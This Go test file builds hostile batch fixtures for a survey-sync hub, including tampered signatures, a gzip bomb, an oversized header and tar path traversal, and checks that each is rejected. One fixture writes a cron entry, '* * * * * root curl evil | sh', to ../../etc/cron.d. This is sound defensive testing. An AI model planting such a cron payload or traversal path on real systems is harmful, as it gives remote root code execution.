package batch

import (
	"archive/tar"
	"bufio"
	"bytes"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/hiddeco/sshsig"

	"github.com/fieldsurvey/fieldsurvey/survey"
	"github.com/fieldsurvey/fieldsurvey/sync/keys"
)

var update = flag.Bool("update", false, "rewrite the hostile fixtures in testdata/hostile")

// The hostile fixtures live in testdata/hostile: NAME.fsbatch and NAME.expect. An expect
// file has a one-line comment ("# …") saying what the fixture is and what it must produce,
// then "batch: ok" or "batch: <check>" (what Read, Verify, Revisions and the questionnaire
// check give, in that order), and a "hub:" line used by the hub's tests, which merge
// valid.fsbatch first and then each fixture in name order.
type fixture struct {
	name    string
	comment string
	batch   string // "ok" or the sentinel error's text
	hub     string
	data    []byte
}

// knownQuestionnaires is what the hostile fixtures are checked against.
func knownQuestionnaires(q QuestionnaireRef) bool { return q == exampleQ }

// generateFixtures builds every fixture from the test key (seed 1) and a stranger (seed 2).
func generateFixtures(t *testing.T) []fixture {
	revs := testRevs(t, "dev-a", 0, 2, 2, exampleQ)
	// The fixtures are version 1 batches (tar), frozen: version 2 has its own tests.
	v1 := func(o Options) Options { o.FormatVersion = FormatVersion1; return o }
	valid := mustCreate(t, revs, v1(testOptions(1)))
	vb := mustRead(t, valid)
	rebuild := func(p parts) []byte {
		var buf bytes.Buffer
		if err := p.writeTar(&buf, testNow); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	base := parts{manifest: vb.ManifestBytes, signature: vb.SignatureBytes, payloadName: NamePayload, payload: vb.Payload}

	flip := func(data []byte, at int) []byte {
		out := bytes.Clone(data)
		out[at] ^= 0x01
		return out
	}
	// The payload starts after manifest and signature entries (each a header and padded data).
	pad := func(n int) int { return (n + 511) / 512 * 512 }
	payloadAt := 512 + pad(len(vb.ManifestBytes)) + 512 + pad(len(vb.SignatureBytes)) + 512
	manifestFlip := 512 + bytes.Index(vb.ManifestBytes, []byte(`"interviews":`)) + len(`"interviews":`)

	stranger := v1(testOptions(1))
	stranger.Signer = seedSigner(2)

	wrongNS := base
	sig, err := sshsig.Sign(bytes.NewReader(vb.ManifestBytes), seedSigner(1), sshsig.HashSHA512, "file")
	if err != nil {
		t.Fatal(err)
	}
	wrongNS.signature = sshsig.Armor(sig)

	old := vb.Manifest
	old.FormatVersion = 0
	oldBytes, _ := old.Marshal()
	oldSig, _ := sshsig.Sign(bytes.NewReader(oldBytes), seedSigner(1), sshsig.HashSHA512, Namespace)
	oldParts := base
	oldParts.manifest, oldParts.signature = oldBytes, sshsig.Armor(oldSig)

	var traversal bytes.Buffer
	tw := tar.NewWriter(&traversal)
	evil := []byte("* * * * * root curl evil | sh\n")
	tw.WriteHeader(&tar.Header{Name: "../../etc/cron.d/fieldsurvey", Typeflag: tar.TypeReg, Size: int64(len(evil)), Mode: 0o644, ModTime: testNow})
	tw.Write(evil)
	tw.Close()

	// A valid manifest and signature, then a payload header that declares a terabyte.
	var huge bytes.Buffer
	hp := base
	hp.payload = nil
	hw := tar.NewWriter(&huge)
	for _, e := range []struct {
		name string
		data []byte
	}{{NameManifest, hp.manifest}, {NameSignature, hp.signature}} {
		hw.WriteHeader(&tar.Header{Name: e.name, Typeflag: tar.TypeReg, Size: int64(len(e.data)), Mode: 0o644, ModTime: testNow, Format: tar.FormatUSTAR})
		hw.Write(e.data)
	}
	hw.WriteHeader(&tar.Header{Name: NamePayload, Typeflag: tar.TypeReg, Size: 1 << 40, Mode: 0o644, ModTime: testNow, Format: tar.FormatGNU})
	hw.Flush() // the header only: the terabyte never follows

	// Same revisions, same device and sequence number, created an hour later: same id, other hash.
	reissued, _, err := createWithNow(revs, v1(testOptions(1)), testNow.Add(3600e9))
	if err != nil {
		t.Fatal(err)
	}
	// The valid manifest, signed again declaring a payload that holds the valid content and
	// then 16 MiB of zeros (16 KB compressed): a gzip bomb from a trusted key.
	content, err := gunzip(vb.Payload)
	if err != nil {
		t.Fatal(err)
	}
	bomb := signedWith(t, vb.Manifest, bombPayload(t, content, 16<<20))
	// A trusted key's batch (sequence 3) whose interview id is a path, not a UUID; Create
	// refuses to pack it, so it is built by hand.
	badID := testRevs(t, "dev-a", 3, 1, 1, exampleQ)
	for i := range badID {
		r := &badID[i]
		*r, err = survey.NewRevision(survey.Target{Interview: "../../etc/passwd", Kind: r.Kind, Key: r.Key}, r.Value, r.Device, r.Counter, r.Time, r.Author, nil)
		if err != nil {
			t.Fatal(err)
		}
	}
	badIDContent, _ := encodeRevisions(badID, FormatVersion1)
	badIDPayload, _ := compress(badIDContent)
	badIDManifest := vb.Manifest
	badIDManifest.Sequence, badIDManifest.Revisions, badIDManifest.Interviews = 3, len(badID), 1
	badIDManifest.Content = Digest{Size: int64(len(badIDContent)), SHA256: sha256Hex(badIDContent)}
	badIDManifest.ID = batchID(FormatVersion1, "dev-a", 3, badIDManifest.Content.SHA256)
	unknownQ := mustCreate(t, testRevs(t, "dev-a", 2, 1, 1, QuestionnaireRef{ID: "example", Version: "9.9"}), testOptions(2))

	return []fixture{
		{name: "valid", comment: "a good batch of 2 interviews (10 revisions) from dev-a, sequence 1: accepted", batch: "ok", hub: "added 10", data: valid},
		{name: "payload-flipped-byte", comment: "one bit of the compressed payload flipped after signing: payload hash mismatch", batch: ErrPayloadHash.Error(), hub: "rejected", data: flip(valid, payloadAt+40)},
		{name: "manifest-flipped-byte", comment: "one bit of manifest.json flipped after signing (interview count 2 -> 3): bad signature", batch: ErrBadSignature.Error(), hub: "rejected", data: flip(valid, manifestFlip)},
		{name: "unknown-signer", comment: "a well-formed batch signed by a key that is not in allowed_signers: unknown signer", batch: ErrUnknownSigner.Error(), hub: "rejected", data: mustCreate(t, revs, stranger)},
		{name: "wrong-namespace", comment: "the manifest signed by the trusted key but for namespace \"file\": bad signature", batch: ErrBadSignature.Error(), hub: "rejected", data: rebuild(wrongNS)},
		{name: "truncated", comment: "the valid batch cut off in the middle of the payload: truncated", batch: ErrTruncated.Error(), hub: "rejected", data: valid[:payloadAt+100]},
		{name: "path-traversal", comment: "a tar whose entry is ../../etc/cron.d/fieldsurvey: refused as an unsafe name, nothing extracted", batch: ErrMalformed.Error(), hub: "rejected", data: traversal.Bytes()},
		{name: "huge-declared-size", comment: "a payload header declaring 1 TiB: too large, refused before reading", batch: ErrTooLarge.Error(), hub: "rejected", data: huge.Bytes()},
		{name: "old-version", comment: "a correctly signed manifest with format_version 0: unsupported version", batch: ErrUnsupportedVersion.Error(), hub: "rejected", data: rebuild(oldParts)},
		{name: "unknown-questionnaire", comment: "a good batch (sequence 2) whose interview uses questionnaire example version 9.9, unknown to the hub: unknown questionnaire version", batch: ErrUnknownQuestionnaire.Error(), hub: "rejected", data: unknownQ},
		{name: "gzip-bomb", comment: "a trusted key's batch whose payload expands 16 MiB past the content its manifest declares: payload hash mismatch, found after reading one byte more than declared", batch: ErrPayloadHash.Error(), hub: "rejected", data: bomb},
		{name: "interview-id-not-uuid", comment: "a trusted key's batch (sequence 3) whose interview id is ../../etc/passwd, not a UUID: malformed batch", batch: ErrMalformed.Error(), hub: "rejected", data: signedWith(t, badIDManifest, badIDPayload)},
		{name: "not-a-batch", comment: "a text file renamed to .fsbatch: not a batch", batch: ErrNotBatch.Error(), hub: "rejected", data: []byte("Báo cáo đánh giá mức độ sẵn sàng\n")},
		{name: "replay", comment: "the valid batch again, byte for byte: accepted by the reader, already present at the hub, changes nothing", batch: "ok", hub: "already present 10", data: valid},
		{name: "reissued", comment: "the same revisions, device and sequence as valid but created an hour later: same batch id, other hash; refused by the hub", batch: "ok", hub: "rejected", data: reissued},
	}
}

func fixtureDir() string { return filepath.Join("testdata", "hostile") }

func loadFixtures(t *testing.T) []fixture {
	t.Helper()
	if *update {
		dir := fixtureDir()
		os.MkdirAll(dir, 0o755)
		for _, f := range generateFixtures(t) {
			exp := "# " + f.comment + "\nbatch: " + f.batch + "\nhub: " + f.hub + "\n"
			if err := os.WriteFile(filepath.Join(dir, f.name+".expect"), []byte(exp), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, f.name+Ext), f.data, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	names, err := filepath.Glob(filepath.Join(fixtureDir(), "*.expect"))
	if err != nil || len(names) == 0 {
		t.Fatalf("no fixtures in %s (run go test -run Hostile -update): %v", fixtureDir(), err)
	}
	sort.Strings(names)
	var out []fixture
	for _, n := range names {
		f := fixture{name: strings.TrimSuffix(filepath.Base(n), ".expect")}
		exp, err := os.ReadFile(n)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(bytes.NewReader(exp))
		for sc.Scan() {
			line := sc.Text()
			switch {
			case strings.HasPrefix(line, "# "):
				f.comment = line[2:]
			case strings.HasPrefix(line, "batch: "):
				f.batch = line[7:]
			case strings.HasPrefix(line, "hub: "):
				f.hub = line[5:]
			}
		}
		if f.comment == "" || f.batch == "" {
			t.Fatalf("%s: needs a # comment and a batch: line", n)
		}
		if f.data, err = os.ReadFile(filepath.Join(fixtureDir(), f.name+Ext)); err != nil {
			t.Fatal(err)
		}
		out = append(out, f)
	}
	return out
}

// check runs every check a hub runs on a batch file, in order.
func check(data []byte, allowed *keys.AllowedSigners) ([]survey.Revision, error) {
	b, err := Read(bytes.NewReader(data), Limits{})
	if err != nil {
		return nil, err
	}
	if err := verifyAt(b, allowed, testNow); err != nil {
		return nil, err
	}
	revs, err := b.Revisions()
	if err != nil {
		return nil, err
	}
	return revs, CheckQuestionnaires(&b.Manifest, knownQuestionnaires)
}

func TestHostileFixtures(t *testing.T) {
	fixtures := loadFixtures(t)
	allowed := testAllowed(t)
	seen := map[string]string{}
	for _, f := range fixtures {
		t.Run(f.name, func(t *testing.T) {
			_, err := check(f.data, allowed)
			if f.batch == "ok" {
				if err != nil {
					t.Fatalf("%s\nwant accepted, got %v", f.comment, err)
				}
				return
			}
			if err == nil {
				t.Fatalf("%s\naccepted", f.comment)
			}
			if Reason(err) == nil {
				t.Errorf("error has no named check: %v", err)
			}
			var class error
			for _, r := range reasons {
				if errors.Is(err, r.err) {
					class = r.err
					break
				}
			}
			if class == nil || class.Error() != f.batch {
				t.Fatalf("%s\nwant %q, got %v", f.comment, f.batch, err)
			}
			// Each fixture is rejected with its own message.
			if other, dup := seen[err.Error()]; dup {
				t.Errorf("same message as %s: %v", other, err)
			}
			seen[err.Error()] = f.name
			checkVietnamese(t, f.name, err)
			t.Logf("%s: %v", f.name, err)
		})
	}
}
